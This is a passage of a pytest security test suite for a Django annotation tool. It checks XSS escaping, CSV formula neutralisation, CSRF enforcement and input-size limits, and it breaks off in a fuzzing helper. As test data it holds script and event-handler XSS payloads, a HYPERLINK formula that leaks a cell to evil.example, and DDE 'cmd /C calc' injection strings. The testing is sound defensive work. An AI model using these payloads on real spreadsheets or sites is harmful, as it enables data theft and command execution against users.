"""Hostile input: markup in every text is inert, CSV cells cannot run formulas, CSRF holds, limits answer clearly.

- Markup: model outputs, sources, references, instructions, guidelines (Markdown), project, batch
  and annotator names, typed text (event data, drafts, post-edits) and skip reasons all carry
  HTML/JavaScript payloads; every page where they appear is parsed and must contain no live script,
  no event-handler attribute and no javascript: URL from them, while the payload is shown (escaped).
- Spreadsheets: exported text cells starting with = + - @ tab or CR are neutralised; numbers are not.
- CSRF: every POST the permission walk allows (tests/editlab/test_url_permissions.py ROUTES) is
  refused without the token for a logged-in session, changing nothing, and accepted with it.
- Limits: request bodies over DATA_UPLOAD_MAX_MEMORY_SIZE, JSON nested past 64 levels, and numbers
  beyond their column's range answer 400 with a message naming the problem, and a role an endpoint
  refuses gets its 403 whatever the body holds (event-batch and import-file limits:
  tests/annotations/test_ingestion.py, tests/annotations/test_import_page.py).
- Every URL, hostile input (a property test): every URL pattern of the URL conf under every role,
  GET and POST, with deep JSON, huge/NaN/negative numbers, ids that are no number and odd Unicode,
  in the path, the query string and the body: never a 5xx, and a refused request changes nothing.
"""

import csv
import io
import json
import math
import re
from collections import Counter
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from html.parser import HTMLParser
from urllib.parse import parse_qsl, quote, urlencode

import pytest
from django.db import DatabaseError, transaction
from django.http import QueryDict
from django.test import Client
from django.urls import resolve, reverse
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from rest_framework.authtoken.models import Token

from annotations.editing.lifecycle import post_edit_open, post_edit_skip, post_edit_submit
from annotations.models import Assignment, EditEvent, Item, PostEdit, Project
from annotations.services.errors import ServiceError
from annotations.services.projects import project_update
from editlab.limits import clamped_idle_threshold_s
from metrics.models import MetricValue
from tests.annotations.editing_helpers import open_item
from tests.annotations.editing_helpers import url as editor_url
from tests.editlab.test_url_permissions import (
    ROLES,
    ROUTES,
    admin_url,
    build_world,
    matches,
    refused,
    snapshot,
    url_patterns,
)
from tests.factories import (
    AssignmentFactory,
    BatchFactory,
    EditEventFactory,
    ItemFactory,
    MetricValueFactory,
    ProjectFactory,
    SubmittedPostEditFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

PAYLOAD = "<script>alert(1)</script><img src=x onerror=alert(1)>\"><svg onload=alert(1)>'-->"
SHORT = "<img src=x onerror=alert(1)>"  # for fields of 150 characters or fewer
MARKDOWN = (
    "# Guidelines\n\n[click me](javascript:alert(1)) and [also](JaVaScRiPt:alert(1)) "
    "![pic](javascript:alert(1))\n\n<script>alert(1)</script> <img src=x onerror=alert(1)> "
    '<a href="javascript:alert(1)" onclick="alert(1)">raw</a>'
)
ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt;"  # how the payload reads when shown as text
SHOWN = (ESCAPED, "&lt;img src=x onerror=alert(1)&gt;", "\\u003Cscript\\u003E")  # any of these: displayed
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background"}


# --------------------------------------------------------------------------- the markup checker


class LiveMarkup(HTMLParser):
    """Collects what a browser would run: scripts, on* handlers, javascript: URLs, injected elements."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self._script: dict | None = None
        self._script_text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") and "alert" in value:
                self.problems.append(f"<{tag} {name}={value!r}>")
            scheme = re.sub(r"[\s\x00-\x1f]", "", value).lower()
            if name in URL_ATTRIBUTES and scheme.startswith(("javascript:", "vbscript:", "data:text/html")):
                self.problems.append(f"<{tag} {name}={value!r}>")
        if tag in ("iframe", "object", "embed", "base") or (
            tag == "meta" and any(name == "http-equiv" for name, _ in attrs)
        ):
            self.problems.append(f"injected <{tag} {attrs}>")
        if tag == "script":
            self._script, self._script_text = dict(attrs), []

    def handle_data(self, data: str) -> None:
        if self._script is not None:
            self._script_text.append(data)

    def handle_endtag(self, tag: str) -> None:
        if tag != "script" or self._script is None:
            return
        text = "".join(self._script_text)
        if self._script.get("type") == "application/json":
            if "<" in text:
                self.problems.append(f"raw '<' inside a JSON script: {text[:120]!r}")
            json.loads(text)  # intact: nothing broke out of it
        elif "alert" in text:
            self.problems.append(f"live script: {text[:120]!r}")
        self._script = None


def live_markup(html: str) -> list[str]:
    parser = LiveMarkup()
    parser.feed(html)
    parser.close()
    return parser.problems


def test_the_checker_finds_live_markup():
    # The checker itself, on the payloads rendered raw: every kind is caught.
    found = live_markup(f"<p>{PAYLOAD}</p><a href=' javascript:alert(1)'>x</a>")
    assert any("live script" in p for p in found)
    assert any("onerror" in p for p in found)
    assert any("onload" in p for p in found)
    assert any("javascript:" in p for p in found)
    assert live_markup(f"<p>{ESCAPED}</p>") == []


# --------------------------------------------------------------------------- a hostile project


@pytest.fixture
def hostile(db) -> dict:
    """A project whose every text is hostile, edited by an annotator whose name is hostile."""
    editor = UserFactory(username=SHORT, role="annotator")  # as an importer could name an account
    colleague = UserFactory(username="colleague" + SHORT[:40], role="annotator")
    project = ProjectFactory(
        name=("Study " + PAYLOAD)[:200],
        guidelines=MARKDOWN,
        instructions=[PAYLOAD],
        task_type=SHORT,
    )
    batch = BatchFactory(project=project, name=PAYLOAD)
    texts = {
        "source": PAYLOAD,
        "model_output": "Fix this: " + PAYLOAD,
        "instruction": PAYLOAD,
        "references": [PAYLOAD, {"title": PAYLOAD, "text": PAYLOAD}],
        "task_type": SHORT,
    }
    open_item = ItemFactory(project=project, batch=batch, batch_position=0, external_id="open-" + PAYLOAD, **texts)
    open_assignment = AssignmentFactory(item=open_item, annotator=editor)
    post_edit, visit = post_edit_open(assignment=open_assignment, user=editor)
    PostEdit.objects.filter(pk=post_edit.pk).update(draft_text="Draft " + PAYLOAD)

    # A submitted edit whose log types the payload (replay matches: the events rebuild the text).
    done_item = ItemFactory(project=project, batch=batch, batch_position=1, external_id="done-" + PAYLOAD, **texts)
    done_assignment = AssignmentFactory(item=done_item, annotator=editor)
    done, done_visit = post_edit_open(assignment=done_assignment, user=editor)
    original = done_item.model_output
    typed = original + PAYLOAD
    log = [
        {"k": "load", "data": original, "len": len(original)},
        {"k": "beforeinput", "it": "insertFromPaste", "s": len(original), "e": len(original)},
        {"k": "paste", "data": PAYLOAD},
        {"k": "input", "it": "insertFromPaste", "s": len(typed), "len": len(typed), "data": PAYLOAD},
    ]
    for seq, event in enumerate(log):
        EditEventFactory(
            post_edit=done,
            visit=done_visit,
            seq=seq,
            t_ms=100.0 * seq,
            kind=event["k"],
            data=event.get("data", ""),
            input_type=event.get("it", ""),
            sel_start=event.get("s"),
            sel_end=event.get("e"),
            length_after=event.get("len"),
            key="",
        )
    post_edit_submit(post_edit=done, page_id=done_visit.page_id, text=typed, version=0, last_seq=len(log) - 1)
    done.refresh_from_db()

    # A skipped one, with a hostile reason.
    skipped_item = ItemFactory(project=project, batch=batch, batch_position=2, **texts)
    skipped_assignment = AssignmentFactory(item=skipped_item, annotator=editor)
    skipped, skipped_visit = post_edit_open(assignment=skipped_assignment, user=editor)
    post_edit_skip(post_edit=skipped, page_id=skipped_visit.page_id, reason=PAYLOAD)

    # Enough finished edits with metric values for the report's tables and plots.
    for n in range(12):
        finished = SubmittedPostEditFactory(
            assignment__item__project=project,
            assignment__item__external_id=f"{n}-{PAYLOAD}",
            assignment__annotator=editor if n % 2 else colleague,
            text=f"{PAYLOAD} {n}",
            keystrokes=5 + 3 * n,
            wall_ms=1000 * (n + 1),
            active_ms=900 * (n + 1),
        )
        MetricValueFactory(post_edit=finished, metric="levenshtein", value=float(n))
        MetricValueFactory(post_edit=finished, metric="bleu", value=float(12 - n) + 0.5 * (n % 3))
    MetricValueFactory(post_edit=done, metric="levenshtein", value=4.0)
    return {
        "editor": editor,
        "project": project,
        "batch": batch,
        "open": open_assignment,
        "done": done_assignment,
        "done_post_edit": done,
        "skipped": skipped_assignment,
        "admin": UserFactory(username="adam", role="admin"),
        "researcher": UserFactory(username="rita", role="researcher"),
    }


def _client(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def _html(response) -> str:
    assert response.status_code == 200, (response.status_code, response.content[:500])
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return body.decode("utf-8")


def _pages(h: dict) -> list[tuple[str, str, bool]]:
    """(who, url, shows the payload as text) for every page where a hostile text appears."""
    project, post_edit = h["project"], h["done_post_edit"]
    admin_pages = [
        (reverse(f"admin:{app}_{model}_{view}", args=args), (model, view) != ("editevent", "changelist"))
        for app, model, view, args in [
            ("annotations", "project", "changelist", []),
            ("annotations", "project", "change", [project.pk]),
            ("annotations", "batch", "changelist", []),
            ("annotations", "batch", "change", [h["batch"].pk]),
            ("annotations", "item", "changelist", []),
            ("annotations", "item", "change", [h["done"].item_id]),
            ("annotations", "assignment", "changelist", []),
            ("annotations", "assignment", "change", [h["skipped"].pk]),
            ("annotations", "postedit", "changelist", []),
            ("annotations", "postedit", "change", [post_edit.pk]),
            ("annotations", "editevent", "changelist", []),  # kinds and keys only: the data is on the change page
            ("annotations", "editevent", "change", [EditEvent.objects.get(post_edit=post_edit, kind="paste").pk]),
            ("annotations", "visit", "changelist", []),
            ("auth", "user", "changelist", []),
            ("auth", "user", "change", [h["editor"].pk]),
            ("metrics", "metricvalue", "changelist", []),
        ]
    ]
    report = reverse("metrics-report", args=[project.pk])
    return [
        ("editor", reverse("annotator_home"), True),
        ("editor", reverse("annotator_home") + f"?batch={h['batch'].pk}", True),
        ("editor", reverse("editor", args=[h["open"].pk]), True),
        ("editor", reverse("editor_diff", args=[h["done"].pk]), True),
        ("editor", reverse("editor_diff", args=[h["skipped"].pk]), True),
        ("admin", reverse("home"), False),
        ("admin", reverse("manage-projects"), True),
        ("admin", reverse("manage-project-edit", args=[project.pk]), True),
        ("admin", reverse("manage-batches", args=[project.pk]), True),
        ("admin", reverse("manage-progress", args=[project.pk]), True),
        ("admin", reverse("manage-items", args=[project.pk]), True),
        ("admin", reverse("manage-items", args=[project.pk]) + "?view=post-edits", True),
        ("researcher", reverse("manage-items", args=[project.pk]) + "?view=post-edits&q=done-", True),
        ("admin", reverse("manage-item", args=[project.pk, h["done"].item_id]), True),
        ("researcher", reverse("manage-item", args=[project.pk, h["skipped"].item_id]), True),
        ("admin", reverse("manage-post-edit-replay", args=[post_edit.pk]), True),
        ("admin", reverse("manage-import"), True),
        ("admin", reverse("manage-users"), True),  # the editor's account is named with the payload
        ("researcher", reverse("metrics-projects"), True),
        ("researcher", reverse("metrics-project", args=[project.pk]), True),
        ("researcher", reverse("metrics-reports"), True),
        ("researcher", report, True),
        ("researcher", report + "?target=wall_time&annotators=" + SHORT, True),
        *(("admin", url, shows) for url, shows in admin_pages),
    ]


def test_hostile_texts_are_shown_as_text_on_every_page(hostile):
    clients = {who: _client(hostile[who]) for who in ("editor", "admin", "researcher")}
    problems = []
    for who, url, shows in _pages(hostile):
        html = _html(clients[who].get(url))
        found = live_markup(html)
        if found:
            problems.append(f"{url} ({who}): {found}")
        if shows and not any(shown in html for shown in SHOWN):
            problems.append(f"{url} ({who}): the payload is not shown at all (the check would be vacuous)")
    assert not problems, "\n".join(problems)


def test_markdown_guidelines_lose_scripts_handlers_and_javascript_links(hostile):
    html = _html(_client(hostile["editor"]).get(reverse("editor", args=[hostile["open"].pk])))
    assert "click me" in html and "<h1>Guidelines</h1>" in html  # rendered, not escaped wholesale
    assert "javascript:" not in html.lower()
    assert live_markup(html) == []


def test_the_editor_config_carries_the_hostile_text_intact(hostile):
    # Escaped for the page, yet the logger gets back exactly the stored text.
    html = _html(_client(hostile["editor"]).get(reverse("editor", args=[hostile["open"].pk])))
    match = re.search(r'<script id="editor-config" type="application/json">(.*?)</script>', html, re.S)
    assert match, "the editor embeds its config with json_script"
    config = json.loads(match.group(1))
    assert config["original"] == "Fix this: " + PAYLOAD
    assert config["draft"] == "Draft " + PAYLOAD


def test_report_plots_are_inert_svg(hostile):
    client = _client(hostile["researcher"])
    project = hostile["project"]
    for kind, query in (("scatter", "?metric=levenshtein"), ("heatmap", ""), ("effort", "")):
        response = client.get(reverse("metrics-report-plot", args=[project.pk, kind, "svg"]) + query)
        svg = _html(response)
        assert response["Content-Type"].startswith("image/svg+xml")
        # Even opened directly, the SVG document may run nothing.
        assert response["Content-Security-Policy"].startswith("default-src 'none'")
        assert "<script" not in svg.lower()
        assert live_markup(svg) == [], kind


# --------------------------------------------------------------------------- spreadsheets

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def formula_project(db) -> Project:
    project = ProjectFactory(name="=formula study", instructions=[FORMULAS[0]], task_type="@task")
    for n, formula in enumerate(FORMULAS):
        annotator = UserFactory(username=f"{formula[:1]}user{n}", role="annotator")
        post_edit = SubmittedPostEditFactory(
            assignment__item__project=project,
            assignment__item__external_id=formula,
            assignment__item__model_output=formula,
            assignment__item__source=formula,
            assignment__item__task_type="@task",
            assignment__item__document=formula,
            assignment__item__document_position=n,
            assignment__annotator=annotator,
            condition=formula,
            text=formula,
            keystrokes=n,
            wall_ms=1000 + n,
        )
        MetricValueFactory(post_edit=post_edit, metric="levenshtein", value=-2.5 + n)  # negative stays a number
    return project


def _assert_neutralised(rows: list[list[str]], numeric_columns: set[str]) -> int:
    header, *body = rows
    checked = 0
    for row in body:
        for column, cell in zip(header, row, strict=True):
            if column in numeric_columns:
                if cell:
                    float(cell)  # a plain number, untouched
                continue
            assert not cell.startswith(FORMULA_START), f"{column}: {cell!r} would run as a formula"
            checked += cell.startswith("'") and cell[1:].startswith(FORMULA_START)
    return checked


def test_csv_exports_neutralise_formulas_and_keep_numbers(formula_project, researcher):
    client = _client(researcher)
    token = Token.objects.create(user=researcher)
    page = _html(client.get(reverse("metrics-export", args=[formula_project.pk]) + "?format=csv"))
    api = Client(HTTP_AUTHORIZATION=f"Token {token.key}").get(
        reverse("api-project-export", args=[formula_project.pk]) + "?format=csv"
    )
    assert page == _html(api)
    rows = list(csv.reader(io.StringIO(page)))
    numeric = {
        "wall_ms",
        "active_ms",
        "reading_ms",
        "keystrokes",
        "allkeys",
        "levenshtein",
        "levenshtein__with_references",
    }
    numeric |= {
        c
        for c in rows[0]
        if c
        not in {
            *("external_id", "annotator", "original", "edited", "source", "task_type", "instruction", "origin"),
            *("document", "condition", "practice"),
        }
    }
    # external_id, annotator, original, edited, source, document, condition of every row, task_type and instruction too.
    assert _assert_neutralised(rows, numeric) >= 7 * len(FORMULAS)
    by_id = {row[0]: row for row in rows[1:]}
    assert by_id["'-2+3"][rows[0].index("levenshtein")] == "-0.5"  # the number, not "'-0.5"
    assert by_id["'-2+3"][rows[0].index("original")] == "'-2+3"


def test_report_csvs_neutralise_formulas(formula_project, researcher):
    client = _client(researcher)
    data = _html(client.get(reverse("metrics-report-data", args=[formula_project.pk, "csv"]) + "?target=keystrokes"))
    scatter = _html(
        client.get(
            reverse("metrics-report-plot", args=[formula_project.pk, "scatter", "csv"])
            + "?target=keystrokes&metric=levenshtein"
        )
    )
    scatter_rows = list(csv.reader(io.StringIO(scatter)))
    assert _assert_neutralised(scatter_rows, {"post_edit_id", "levenshtein", "keystrokes"}) >= 2 * len(FORMULAS)
    header = next(csv.reader(io.StringIO(data)))
    assert not any(column.startswith(FORMULA_START) for column in header)


# --------------------------------------------------------------------------- CSRF


def _csrf_cases() -> list[tuple[str, str]]:
    """(URL name, role) of every POST the permission walk lets through."""
    cases = []
    for name, route in ROUTES.items():
        allowed = [role for role, expected in route.post.items() if role != "anonymous" and not refused(expected)]
        if allowed:
            cases.append((name, allowed[-1]))  # the most privileged role that may post
    return cases


def test_every_state_changing_post_needs_the_csrf_token():
    world = build_world()
    cases = _csrf_cases()
    assert len(cases) >= 30, cases
    problems = []
    for name, role in cases:
        route = ROUTES[name]
        url = reverse(name, kwargs=route.kwargs(world)) + route.query
        client = Client(enforce_csrf_checks=True)
        client.force_login(world.users[role])
        secret = "k" * 32
        client.cookies["csrftoken"] = secret

        def post(with_token: bool, route=route, url=url, client=client, secret=secret):
            data = route.data(world)
            if route.json:
                headers = {"X-CSRFToken": secret} if with_token else {}
                return client.post(url, data=json.dumps(data), content_type="application/json", headers=headers)
            if with_token:
                data = {**data, "csrfmiddlewaretoken": secret}
            return client.post(url, data=data)

        refused_answer = post(with_token=False)
        if refused_answer.status_code != 403 or b"CSRF" not in refused_answer.content:
            problems.append(f"{name} as {role}: {refused_answer.status_code} without the CSRF token")
        if snapshot() != world.state:
            problems.append(f"{name} as {role}: refused for CSRF, yet the database changed")
            world.state = snapshot()
        with transaction.atomic():
            accepted = post(with_token=True)
            transaction.set_rollback(True)
        if accepted.status_code == 403:
            problems.append(f"{name} as {role}: refused even with the CSRF token")
    assert not problems, "\n".join(problems)


def test_the_django_admin_and_logout_need_the_csrf_token(admin_user):
    project = ProjectFactory(name="Untouched")
    client = Client(enforce_csrf_checks=True)
    client.force_login(admin_user)
    change = reverse("admin:annotations_project_change", args=[project.pk])
    response = client.post(change, {"name": "Renamed", "guidelines": "", "overlap": 1, "idle_threshold_s": 30})
    assert response.status_code == 403
    assert Project.objects.get(pk=project.pk).name == "Untouched"
    assert client.post(reverse("logout")).status_code == 403
    assert client.get(reverse("home")).status_code == 200  # still logged in


def test_token_clients_need_no_csrf_token_because_no_cookie_speaks_for_them(admin_user):
    # CSRF abuses a browser's cookies; a token must be sent deliberately, so the API accepts it alone.
    token = Token.objects.create(user=admin_user)
    client = Client(enforce_csrf_checks=True, HTTP_AUTHORIZATION=f"Token {token.key}")
    response = client.post(reverse("api-project-create"), {"name": "By token"}, content_type="application/json")
    assert response.status_code == 201
    assert Project.objects.filter(name="By token").exists()


# --------------------------------------------------------------------------- limits


def test_a_request_body_over_the_limit_is_a_clear_400_and_stores_nothing(admin_client, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 20_000
    project = ProjectFactory(name="Limits")
    items = [{"external_id": f"x{n}", "model_output": "y" * 200} for n in range(200)]
    api = admin_client.post(
        reverse("api-items-create", args=[project.pk]),
        data=json.dumps({"items": items}),
        content_type="application/json",
    )
    assert api.status_code == 400
    assert api.json()["code"] == "too_large"
    assert "DATA_UPLOAD_MAX_MEMORY_SIZE" in api.json()["detail"] and "20,000 bytes" in api.json()["detail"]
    page = admin_client.post(reverse("manage-project-create"), {"name": "n", "guidelines": "g" * 30_000})
    assert page.status_code == 400
    assert "20,000 bytes (DATA_UPLOAD_MAX_MEMORY_SIZE)" in page.content.decode()
    assert not Item.objects.filter(project=project).exists()
    assert not Project.objects.filter(name="n").exists()


def test_too_many_items_in_one_request_is_a_clear_400(admin_client, settings):
    from annotations.api.serializers_items import MAX_ITEMS_PER_REQUEST

    project = ProjectFactory(name="Many")
    items = [{"external_id": f"x{n}", "model_output": "y"} for n in range(MAX_ITEMS_PER_REQUEST + 1)]
    response = admin_client.post(
        reverse("api-items-create", args=[project.pk]),
        data=json.dumps({"items": items}),
        content_type="application/json",
    )
    assert response.status_code == 400
    assert str(MAX_ITEMS_PER_REQUEST) in json.dumps(response.json())
    assert not Item.objects.filter(project=project).exists()


@pytest.mark.parametrize(
    ("name", "payload", "field"),
    [
        ("api-project-create", {"name": "Huge", "overlap": 10**20}, "overlap"),
        ("api-assignments-withdraw", {"ids": [10**20]}, "ids"),
    ],
)
def test_numbers_beyond_their_column_are_a_400_not_a_500(admin_client, name, payload, field):
    response = admin_client.post(reverse(name), data=json.dumps(payload), content_type="application/json")
    assert response.status_code == 400
    assert field in response.json()["errors"]
    assert not Project.objects.filter(name="Huge").exists()


def test_numbers_beyond_their_column_in_forms_and_queries_are_a_400(admin_client):
    form = admin_client.post(
        reverse("manage-project-create"),
        {"name": "Huge", "guidelines": "", "instructions": "x", "idle_threshold_s": "30", "overlap": str(10**20)},
    )
    assert form.status_code == 200  # the form again, with the error beside the field
    assert "less than or equal to 32767" in form.content.decode()
    query = admin_client.get(reverse("api-assignments") + f"?project={10**20}")
    assert query.status_code == 400 and "project" in query.json()["errors"]
    assert not Project.objects.filter(name="Huge").exists()


def _browser(user) -> Client:
    """A logged-in client that checks CSRF as a browser session does, with its token."""
    client = Client(enforce_csrf_checks=True)
    client.force_login(user)
    client.cookies["csrftoken"] = "t" * 32
    return client


def _post_json(client: Client, url: str, body: str):
    return client.post(url, data=body, content_type="application/json", headers={"X-CSRFToken": "t" * 32})


DEEP = "[" * 1000 + "]" * 1000


@pytest.mark.parametrize(
    "name",
    ["api-project-create", "api-user-create", "api-items-create", "api-assignments-withdraw", "api-project-update"],
)
def test_a_researcher_posting_deep_json_to_an_admin_endpoint_gets_403(researcher, name):
    # The permission is checked before the body is read (DRF's CSRF check used to parse it first: a 500).
    kwargs = {"project_id": ProjectFactory().pk} if name in ("api-items-create", "api-project-update") else {}
    before = snapshot()
    response = _post_json(_browser(researcher), reverse(name, kwargs=kwargs), DEEP)
    assert response.status_code == 403
    assert response.json() == {"detail": "Only admins may do this.", "code": "permission_denied"}
    assert snapshot() == before


@pytest.mark.parametrize("endpoint", ["events", "draft", "submit", "skip"])
def test_deep_json_to_the_editor_is_a_400_naming_the_limit(annotator, endpoint):
    post_edit, visit = open_item(annotator)
    client = _browser(annotator)
    body = _post_json(client, editor_url(endpoint, post_edit), '{"page_id": ' + DEEP + "}")
    beacon = client.post(editor_url(endpoint, post_edit), {"payload": DEEP, "csrfmiddlewaretoken": "t" * 32})
    for response in (body, beacon):
        assert response.status_code == 400
        assert response.json()["code"] == "too_deep"
        assert "nested more than 64 levels deep" in response.json()["detail"]
        assert "JSON_MAX_DEPTH" in response.json()["detail"]
    assert not EditEvent.objects.filter(post_edit=post_edit).exists()


@pytest.mark.parametrize(
    ("name", "role"),
    [("api-project-create", "admin"), ("api-user-create", "admin"), ("api-metric-job-create", "researcher")],
)
def test_deep_json_to_creations_is_a_400_naming_the_limit(admin_user, researcher, name, role):
    user = {"admin": admin_user, "researcher": researcher}[role]
    kwargs = {"project_id": ProjectFactory().pk} if name == "api-metric-job-create" else {}
    before = snapshot()
    nested = '{"name": "x", "meta": ' + '{"a": ' * 100 + "1" + "}" * 100 + "}"  # deep inside, not at the top
    for body in (DEEP, nested):
        response = _post_json(_browser(user), reverse(name, kwargs=kwargs), body)
        assert response.status_code == 400, body[:20]
        assert response.json()["code"] == "too_deep"
    assert snapshot() == before


@pytest.mark.parametrize(
    ("query", "field"),
    [("?project=99999999999999999999", "project"), ("?project=-1", "project"), ("?project=%C2%B2", "project")],
)
def test_ids_beyond_their_column_in_the_metric_values_query_are_a_400(researcher_client, query, field):
    response = researcher_client.get(reverse("api-metric-values") + query)
    assert response.status_code == 400
    assert field in response.json()["errors"]


@pytest.mark.parametrize("batch", ["²", "１２", "١٢", "99999999999999999999999", "-1", "1e3"])
def test_a_batch_query_that_is_no_id_answers_404_not_500(annotator_client, batch):
    response = annotator_client.get(reverse("annotator_home"), {"batch": batch})
    assert response.status_code == 404


@pytest.mark.parametrize("value", [1e308, 86_400.5, 0, -1])
def test_an_idle_threshold_beyond_a_day_or_not_positive_is_refused_everywhere(admin_client, admin_user, value):
    project = ProjectFactory(name="Limits", idle_threshold_s=30)
    api = admin_client.post(
        reverse("api-project-update", args=[project.pk]),
        data=json.dumps({"idle_threshold_s": value}),
        content_type="application/json",
    )
    assert api.status_code == 400 and "idle_threshold_s" in api.json()["errors"]
    created = admin_client.post(
        reverse("api-project-create"),
        data=json.dumps({"name": "New", "idle_threshold_s": value}),
        content_type="application/json",
    )
    assert created.status_code == 400 and "idle_threshold_s" in created.json()["errors"]
    page = admin_client.post(
        reverse("manage-project-edit", args=[project.pk]),
        {"name": "Limits", "instructions": "x", "idle_threshold_s": str(value), "overlap": "1"},
    )
    assert page.status_code == 200 and "Ensure this value is" in page.content.decode()  # the form again
    site = admin_client.post(
        reverse("admin:annotations_project_change", args=[project.pk]),
        {"name": "Limits", "guidelines": "", "instructions": "[]", "idle_threshold_s": str(value), "overlap": "1",
         "meta": "{}", "design": "simple", "conditions": "[]", "outputs_order": "[]"},
    )  # fmt: skip
    assert site.status_code == 200 and "Ensure this value is" in site.content.decode()
    with pytest.raises(ServiceError, match="idle_threshold_s"):
        project_update(project=project, idle_threshold_s=value)
    assert Project.objects.get(pk=project.pk).idle_threshold_s == 30
    assert not Project.objects.filter(name="New").exists()


def test_an_absurd_idle_threshold_already_stored_leaves_the_editor_working(annotator, annotator_client):
    post_edit, _ = open_item(annotator)
    project = post_edit.assignment.item.project
    for stored, used_ms in ((1e308, 86_400_000), (-5.0, 1)):  # NaN: clamped_idle_threshold_s (SQLite stores no NaN)
        Project.objects.filter(pk=project.pk).update(idle_threshold_s=stored)
        response = annotator_client.get(reverse("editor", args=[post_edit.assignment_id]))
        assert response.status_code == 200, stored
        match = re.search(
            r'<script id="editor-config" type="application/json">(.*?)</script>', response.content.decode()
        )
        assert json.loads(match.group(1))["idle_threshold_ms"] == used_ms


@pytest.mark.parametrize(
    ("value", "message"),
    [
        ("[" * 1000 + "]" * 1000, "nested more than 64 levels deep"),
        ('{"a": "\\u0000"}', "NUL character"),
        ("NaN", "NaN"),
    ],
)
def test_the_admin_sites_json_fields_refuse_what_no_column_holds(admin_client, value, message):
    project = ProjectFactory(name="Admin JSON", meta={"kept": True})
    form = {"name": "Admin JSON", "guidelines": "", "instructions": "[]", "idle_threshold_s": "30", "overlap": "1",
            "meta": value, "design": "simple", "conditions": "[]"}  # fmt: skip
    response = admin_client.post(reverse("admin:annotations_project_change", args=[project.pk]), form)
    assert response.status_code == 200  # the form again, the message beside the field
    assert message in response.content.decode()
    assert Project.objects.get(pk=project.pk).meta == {"kept": True}


def test_an_api_url_without_an_endpoint_answers_in_the_api_shape(admin_client):
    response = admin_client.get("/api/post-edits/not-a-number/events/")
    assert response.status_code == 404
    assert response.json() == {"detail": "No such URL in the API.", "code": "not_found"}
    assert admin_client.get("/no-such-page/").status_code == 404  # pages keep Django's page


def test_a_stored_idle_threshold_is_read_within_its_range():
    assert clamped_idle_threshold_s(float("nan")) == 30.0
    assert clamped_idle_threshold_s(1e308) == 86_400.0
    assert clamped_idle_threshold_s(-1.0) == 0.001
    assert clamped_idle_threshold_s(12.5) == 12.5


@pytest.mark.parametrize("value", ["99999999999999999999", "-1", "²", "1e3"])
def test_ids_beyond_their_column_in_the_assignment_forms_are_form_errors(admin_client, value):
    project = ProjectFactory(name="Forms")
    BatchFactory(project=project, name="b1")
    assign = admin_client.post(
        reverse("manage-batches-assign", args=[project.pk]), {"annotators": [value], "overlap": "1", "batches": [value]}
    )
    move = admin_client.post(
        reverse("manage-assignments-move", args=[project.pk]),
        {"action": "reassign", "from_annotator": value, "to_annotator": value, "batches": [value]},
    )
    for response in (assign, move):
        assert response.status_code == 400
        assert "is not an id" in response.content.decode() or "valid choice" in response.content.decode()
    assert not Assignment.objects.filter(item__project=project).exists()


def test_a_skip_reason_or_typed_text_is_stored_verbatim(hostile):
    # Inert on the way out does not mean altered on the way in: the study keeps what was typed.
    assert Assignment.objects.get(pk=hostile["skipped"].pk).skip_reason == PAYLOAD
    assert PostEdit.objects.get(pk=hostile["done_post_edit"].pk).text.endswith(PAYLOAD)
    assert MetricValue.objects.filter(post_edit=hostile["done_post_edit"]).exists()


# --------------------------------------------------------------------------- every URL, hostile input (property test)
#
# Every URL pattern of the URL conf (editlab's and the Django admin's), under every role, GET and POST,
# with hostile path arguments, query strings and bodies: JSON nested far past any limit, numbers no
# column holds (2**63, 1e308, NaN, -1), ids that are no number, odd Unicode (NUL, bidi controls, lone
# surrogates in JSON, full-width digits). Every answer must be below 500, and a refused request (4xx)
# must leave the database row for row as it was. Every request runs in a savepoint that is rolled
# back, so each meets the same world.

DEEP_ARRAY = "[" * 3000 + "]" * 3000
DEEP_OBJECT = '{"a": ' * 1500 + "1" + "}" * 1500
NUMBER_TEXTS = [
    "99999999999999999999",
    str(2**63),
    str(2**63 - 1),
    str(2**31),
    "2147483647",
    "-1",
    "0",
    "-0",
    "1e308",
    "1e309",
    "-1e308",
    "NaN",
    "Infinity",
    "-Infinity",
    "1.5",
    "0x10",
    "²",
    "١٢٣",
    "１２",
    "9" * 5000,
]
ODD_TEXTS = [
    "\x00",
    "a\x00b",
    "\u202eevil",
    "\ufeff",
    "\U0001f600",
    "e\u0301",
    "ﬁ",
    "\u2028",
    "'\";--",
    "%00",
    "../",
    "",
]
JSON_NUMBERS = [2**63, -(2**63) - 1, 10**30, 2**31, -1, 0, 1e308, -1e308, 5e-324, 0.5]
# Names the forms, serializers and query strings read: hostile values land where code looks for them.
FIELD_NAMES = [
    "name", "guidelines", "task_type", "instructions", "instructions_file", "idle_threshold_s", "overlap", "items",
    "size", "shuffle_seed", "annotators", "batches", "ids", "force", "to", "username", "role", "password", "email", "active",
    "metrics", "variants", "page_id", "events", "text", "version", "last_seq", "reason", "action", "from_annotator",
    "to_annotator", "project", "new_project", "fmt", "format", "batch", "status", "annotator", "metric", "variant",
    "target", "origin", "page", "page_size", "k", "test_size", "seed", "cv_repeats", "next", "q", "o", "p",
    "meta", "references", "gold_edits", "outputs", "highlights", "conditions", "position", "batch_position",
    "distances",
]  # fmt: skip
CONVERTER = re.compile(r"<(?:(\w+):)?(\w+)>")


def _text_values() -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(NUMBER_TEXTS + ODD_TEXTS),
        st.integers(min_value=-(2**70), max_value=2**70).map(str),
        st.text(max_size=20),
    )


def _json_values() -> st.SearchStrategy:
    leaves = st.one_of(
        st.sampled_from(JSON_NUMBERS),
